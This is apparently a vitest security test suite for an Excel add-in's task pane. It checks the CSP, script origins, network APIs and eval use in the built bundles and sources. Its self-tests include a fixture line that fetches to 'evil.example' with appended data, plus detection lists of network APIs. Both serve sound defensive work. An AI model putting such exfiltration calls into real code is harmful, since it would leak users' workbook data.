// The task pane loads no remote code but Office's own office.js, forbids other origins with
// a Content-Security-Policy, and sends no workbook data anywhere.
//
// Checked on the built pages and bundles (dist/ if it has a build, else a production build
// into a temporary directory, which takes ~20 s here — or always, with SECURITY_FRESH_BUILD=1;
// if that fails or runs over 90 s the built-artifact checks are skipped and say so), and
// always on the sources: the webpack
// config's CSP and devtool, the page template, and every source file the pane bundles.
import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, test } from 'vitest';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const OFFICE_JS = /^https:\/\/appsforoffice\.microsoft\.com\/lib\/1\/hosted\/office(\.debug)?\.js$/;

let dist: string | null = null;
let how = '';

function hasBuild(dir: string): boolean {
  return existsSync(path.join(dir, 'taskpane.html')) && readdirSync(dir).some((f) => /^taskpane\..*js$/.test(f));
}

beforeAll(async () => {
  const own = path.join(ROOT, 'dist');
  if (hasBuild(own) && !process.env.SECURITY_FRESH_BUILD) {
    dist = own;
    how = `dist/ (built ${statSync(path.join(own, 'taskpane.html')).mtime.toISOString()})`;
    return;
  }
  const out = mkdtempSync(path.join(tmpdir(), 'agreement-rules-dist-'));
  const t0 = Date.now();
  const ok = await new Promise<boolean>((resolve) => {
    const child = execFile('npx', ['webpack', '--mode', 'production', '--output-path', out], { cwd: ROOT, timeout: 90_000 }, (err) => resolve(!err));
    child.stdout?.resume();
    child.stderr?.resume();
  });
  if (ok && hasBuild(out)) {
    dist = out;
    how = `a production build into ${out} (${Math.round((Date.now() - t0) / 1000)} s)`;
  } else how = `no build: dist/ is missing and webpack failed or ran over 90 s; only the sources are checked`;
}, 120_000);

// --------------------------------------------------------------------------------
// The Content-Security-Policy

function parseCsp(csp: string): Map<string, string[]> {
  return new Map(
    csp
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map((d) => [d[0]!.toLowerCase(), d.slice(1)]),
  );
}

/** The policy every page must carry: nothing from other origins but office.js; no eval; data only to the page's own origin. */
function expectStrictCsp(csp: string, where: string): void {
  const p = parseCsp(csp);
  expect(p.get('default-src'), `${where}: default-src`).toEqual(["'self'"]);
  const script = p.get('script-src') ?? p.get('default-src')!;
  for (const s of script) expect(["'self'", 'https://appsforoffice.microsoft.com'], `${where}: script-src ${s}`).toContain(s);
  expect(script, `${where}: no eval`).not.toContain("'unsafe-eval'");
  expect(script, `${where}: no inline scripts`).not.toContain("'unsafe-inline'");
  // connect-src: where fetch/XHR/WebSocket may go — only the page's own origin (or default-src 'self')
  expect(p.get('connect-src') ?? ["'self'"], `${where}: connect-src`).toEqual(["'self'"]);
  for (const [dir, sources] of p) {
    for (const s of sources) {
      expect(s, `${where}: ${dir} allows everything`).not.toBe('*');
      expect(s, `${where}: ${dir} allows any https origin`).not.toMatch(/^(https?|wss?):?$/);
      if (/^[a-z]+:\/\//i.test(s)) expect(`${dir} ${s}`, `${where}: only office.js may come from elsewhere`).toBe('script-src https://appsforoffice.microsoft.com');
    }
  }
  // styles may be inline (Fluent UI's Griffel injects them at run time); images self or data:
  for (const s of p.get('style-src') ?? []) expect(["'self'", "'unsafe-inline'"]).toContain(s);
  for (const s of p.get('img-src') ?? []) expect(["'self'", 'data:']).toContain(s);
}

describe('the pages (built)', () => {
  test('every <script src> is local or Office\'s office.js; every page has the strict CSP', () => {
    console.log(`security: checking ${how}`);
    if (!dist) return;
    const pages = readdirSync(dist).filter((f) => f.endsWith('.html'));
    expect(pages).toContain('taskpane.html');
    for (const page of pages) {
      const html = readFileSync(path.join(dist, page), 'utf8');
      const scripts = [...html.matchAll(/<script\b[^>]*>/gi)].map((m) => m[0]);
      for (const tag of scripts) {
        const src = /\bsrc\s*=\s*["']([^"']*)["']/i.exec(tag)?.[1];
        expect(src, `${page}: an inline <script> (the CSP would refuse it anyway)`).toBeDefined();
        if (/^(https?:)?\/\//i.test(src!)) expect(src, `${page}: remote script`).toMatch(OFFICE_JS);
        else {
          expect(src, `${page}: local script`).toMatch(/^[\w./-]+\.js$/);
          expect(existsSync(path.join(dist, src!)), `${page}: ${src} is in the build`).toBe(true);
        }
      }
      for (const m of html.matchAll(/<link\b[^>]*\bhref\s*=\s*["']([^"']*)["']/gi)) expect(m[1], `${page}: <link> from elsewhere`).not.toMatch(/^(https?:)?\/\//i);
      const metas = [...html.matchAll(/<meta\b[^>]*http-equiv\s*=\s*["']Content-Security-Policy["'][^>]*>/gi)];
      expect(metas.length, `${page}: one CSP meta tag`).toBe(1);
      const csp = /\bcontent\s*=\s*"([^"]*)"/i.exec(metas[0]![0])?.[1] ?? '';
      expectStrictCsp(csp.replace(/&#39;|&apos;/g, "'"), page);
      // the CSP meta comes before any script, so it governs them all
      expect(html.search(/http-equiv\s*=\s*["']Content-Security-Policy/i)).toBeLessThan(html.search(/<script\b/i) === -1 ? Infinity : html.search(/<script\b/i));
    }
    expect(readFileSync(path.join(dist, 'taskpane.html'), 'utf8')).toMatch(/<script src="https:\/\/appsforoffice\.microsoft\.com\/lib\/1\/hosted\/office\.js"><\/script>/);
  });
});

// --------------------------------------------------------------------------------
// Network calls in the bundles

/** APIs that send data off the page. Any occurrence is a finding unless explained below. */
const NETWORK = ['XMLHttpRequest', 'WebSocket', 'sendBeacon', 'EventSource', 'importScripts', 'RTCPeerConnection', 'WebTransport'];
const GLOBALS = new Set(['window', 'self', 'globalThis', 'global', 'top', 'parent', 'frames', 'navigator', 'document']);

/**
 * Each `fetch` in minified code: a use of the global fetch (a call, `window.fetch`, or the
 * bare name as a value, e.g. `(0,fetch)(u)`) is a finding; a method of one of our objects
 * (the fake host's proxies' `fetch(prop)`: `this.fetch(…)`, `fetch(a,n){…}`) or an object
 * key (`{fetch:…}`) is not.
 */
function fetchUses(js: string): { global: string[]; methods: number } {
  const global: string[] = [];
  let methods = 0;
  for (const m of js.matchAll(/(?<![\w$'"`])fetch(?![\w$])/g)) {
    const i = m.index!;
    const before = js.slice(Math.max(0, i - 40), i);
    const after = js.slice(i + 5);
    const ctx = js.slice(Math.max(0, i - 60), i + 60);
    if (before.endsWith('.')) {
      const obj = /([\w$]+)\.$/.exec(before)?.[1] ?? '';
      if (GLOBALS.has(obj)) global.push(ctx);
      else methods++; // this.fetch(…), x.fetch(…): our own objects' method
      continue;
    }
    if (/^\s*:/.test(after) && /[{,]\s*$/.test(before)) continue; // an object key {fetch: …}
    if (!/^\s*\(/.test(after)) {
      global.push(ctx); // the bare name as a value: (0,fetch)(u), f=fetch
      continue;
    }
    // a method definition `fetch(a,n){` or a call `fetch(url)`: find the closing paren
    let depth = 0, j = i + 5;
    for (; j < js.length; j++) {
      if (js[j] === '(') depth++;
      else if (js[j] === ')' && --depth === 0) break;
    }
    if (js[j + 1] === '{') methods++;
    else global.push(ctx);
  }
  return { global, methods };
}

/**
 * Code built from strings, explained: the CSP (no 'unsafe-eval') makes the browser refuse
 * all of them, so none can run in the pane; they are listed so a new one is looked at.
 * - webpack's runtime: `new Function("return this")` finds the global object (in try/catch,
 *   falls back to `window`).
 * - jsonpath-plus (a dependency of json-rules-engine): a `vm.Script` shim with
 *   `new Function(...)` and `_eval`, for JSONPath filter scripts in a condition's `path`.
 *   Our conditions never carry a `path` (the rule schema forbids it; ConditionEngine builds
 *   each condition from fact, operator and value only: test/security/rules.test.ts).
 * - chevrotain (the parser library of fast-formula-parser, in the preview bundle only):
 *   `generateParserFactory` builds a parser class from generated source with
 *   `new Function("tokenVocabulary", "config", "chevrotain", …)`; fast-formula-parser never
 *   calls it (its grammar is a hand-written CstParser), and the browser tests' CSP check sees
 *   no violation while the preview calculates formulas (test/e2e/run.mjs, issue 11).
 */
const EVAL_KNOWN: RegExp[] = [/new Function\("return this"\)/, /return new Function\(\.\.\.[\w$]+,[\w$]+\)\(\.\.\.[\w$]+\)/, /new Function\("tokenVocabulary","config","chevrotain",/];

describe('the bundles (built)', () => {
  test('no network API, no global fetch; code from strings only where explained', () => {
    if (!dist) return;
    const bundles = readdirSync(dist).filter((f) => f.endsWith('.js'));
    expect(bundles.length).toBeGreaterThan(0);
    const report: string[] = [];
    for (const f of bundles) {
      const js = readFileSync(path.join(dist, f), 'utf8');
      for (const api of NETWORK) {
        const hits = [...js.matchAll(new RegExp(`\\b${api}\\b`, 'g'))].map((m) => js.slice(Math.max(0, m.index! - 60), m.index! + 60));
        expect(hits, `${f}: ${api}`).toEqual([]);
      }
      const { global, methods } = fetchUses(js);
      expect(global, `${f}: a global fetch`).toEqual([]);
      const evals = [...js.matchAll(/new Function\s*\(|\beval\s*\(/g)].map((m) => js.slice(Math.max(0, m.index! - 30), m.index! + 60));
      const unexplained = evals.filter((e) => !EVAL_KNOWN.some((k) => k.test(e)) && !/\._eval\(|\bthis\._eval\(/.test(e) && !/Eval \[\(expr\)\]/.test(e));
      expect(unexplained, `${f}: code from strings`).toEqual([]);
      const origins = [...new Set([...js.matchAll(/https?:\/\/[\w.-]+/g)].map((m) => m[0]))].sort();
      report.push(`${f}: 0 network APIs, 0 global fetch, ${methods} fetch methods of the fake host's proxies, ${evals.length} eval/new Function (explained); URL strings (text, not requests): ${origins.join(' ')}`);
    }
    console.log(`security, bundles:\n  ${report.join('\n  ')}`);
  });
});

// --------------------------------------------------------------------------------
// The sources (always checked, build or not)

function files(dir: string, out: string[] = []): string[] {
  for (const e of readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) files(p, out);
    else if (/\.(tsx?|m?js)$/.test(e.name)) out.push(p);
  }
  return out;
}

describe('the sources', () => {
  test('webpack: every page gets the strict CSP; no eval-based source maps; office.js only on the task pane', async () => {
    const configPath = path.join(ROOT, 'webpack.config.js'); // imported by path: it is plain JS without types
    const { default: config } = (await import(configPath)) as { default: (env: object, argv: object) => Promise<Record<string, unknown>> };
    for (const mode of ['production', 'development']) {
      const c = await config({}, { mode });
      expect(String(c.devtool ?? ''), `${mode}: devtool`).not.toMatch(/eval/);
      const pages = (c.plugins as { userOptions?: { filename?: string; csp?: string; officeJs?: boolean; template?: string } }[]).filter((p) => p.userOptions?.filename?.endsWith('.html'));
      expect(pages.map((p) => p.userOptions!.filename)).toContain('taskpane.html');
      for (const p of pages) {
        expectStrictCsp(p.userOptions!.csp ?? '', `${mode} ${p.userOptions!.filename}`);
        expect(!!p.userOptions!.officeJs, `${p.userOptions!.filename}: office.js`).toBe(p.userOptions!.filename === 'taskpane.html' || p.userOptions!.filename === 'commands.html');
        const template = readFileSync(p.userOptions!.template!, 'utf8');
        expect(template).toMatch(/http-equiv="Content-Security-Policy" content="<%= htmlWebpackPlugin\.options\.csp %>"/);
        for (const m of template.matchAll(/<script\b[^>]*\bsrc\s*=\s*"([^"]*)"/g)) expect(m[1]).toMatch(OFFICE_JS);
      }
    }
  });

  test('no source the pane bundles calls the network', () => {
    const sources = [...files(path.join(ROOT, 'taskpane')), ...files(path.join(ROOT, 'addin'))].filter((f) => !f.includes(`${path.sep}cli${path.sep}`));
    const findings: string[] = [];
    for (const f of sources) {
      const text = readFileSync(f, 'utf8');
      text.split('\n').forEach((line, i) => {
        const code = line.replace(/\/\/.*$/, '').replace(/^\s*\*.*$/, '');
        for (const api of NETWORK) if (new RegExp(`\\b${api}\\b`).test(code)) findings.push(`${path.relative(ROOT, f)}:${i + 1}: ${line.trim()}`);
        for (const m of code.matchAll(/(?<![\w$])(?:(window|self|globalThis)\s*\.\s*)?fetch\s*\(/g)) {
          const isMethod = /^\s*(?:(?:protected|private|public|abstract|override|async|static)\s+)*fetch\s*\(/.test(code); // a class's own fetch(prop) method
          if (m.index !== undefined && code[m.index - 1] !== '.' && !isMethod) findings.push(`${path.relative(ROOT, f)}:${i + 1}: ${line.trim()}`);
        }
        if (/(?<![\w$.'"`])fetch(?![\w$(\s:])/.test(code)) findings.push(`${path.relative(ROOT, f)}:${i + 1}: ${line.trim()}`); // fetch as a value
        if (/\bimport\s*\(\s*['"`]https?:/.test(code) || /\bnew\s+Function\s*\(|\beval\s*\(/.test(code)) findings.push(`${path.relative(ROOT, f)}:${i + 1}: ${line.trim()}`);
      });
    }
    expect(findings).toEqual([]);
    console.log(`security, sources: ${sources.length} files of taskpane/ and addin/ (CLI excluded: it runs in node on local files), no network call, no eval`);
  });

  test('the manifest points only at the add-in\'s own origin', () => {
    const xml = readFileSync(path.join(ROOT, 'manifest.xml'), 'utf8');
    const urls = [...xml.matchAll(/(?:DefaultValue="|<AppDomain>)(https?:\/\/[^"<\s]+)/g)].map((m) => new URL(m[1]!).origin);
    expect(urls.length).toBeGreaterThan(3);
    expect(new Set(urls).size, `origins: ${[...new Set(urls)].join(', ')}`).toBe(1);
  });
});

describe('the checks themselves', () => {
  test('the fetch classifier tells a network call from our own fetch(prop) methods', () => {
    expect(fetchUses('a=fetch("https://evil.example/?d="+x)').global).toHaveLength(1);
    expect(fetchUses('window.fetch(u,{method:"POST"})').global).toHaveLength(1);
    expect(fetchUses('const f=globalThis.fetch;f(u)').global).toHaveLength(1);
    expect(fetchUses('(0,fetch)(u)').global).toHaveLength(1);
    expect(fetchUses('class A{fetch(a,n){return 1}}').global).toHaveLength(0);
    expect(fetchUses('h[u]=this.fetch(u,s);prefetch(x)').global).toHaveLength(0);
  });
  test('the CSP check refuses what it should', () => {
    const good = "default-src 'self'; script-src 'self' https://appsforoffice.microsoft.com; style-src 'self' 'unsafe-inline'; img-src 'self' data:; connect-src 'self'";
    expect(() => expectStrictCsp(good, 'good')).not.toThrow();
    for (const bad of [
      good.replace("script-src 'self'", "script-src 'self' 'unsafe-eval'"),
      good.replace("connect-src 'self'", "connect-src 'self' https://evil.example"),
      good.replace("connect-src 'self'", 'connect-src *'),
      good.replace("default-src 'self'", 'default-src https:'),
      good.replace("img-src 'self' data:", "img-src 'self' https://tracker.example"),
      good.replace("script-src 'self'", "script-src 'self' https://cdn.example"),
    ])
      expect(() => expectStrictCsp(bad, 'bad'), bad).toThrow();
  });
});
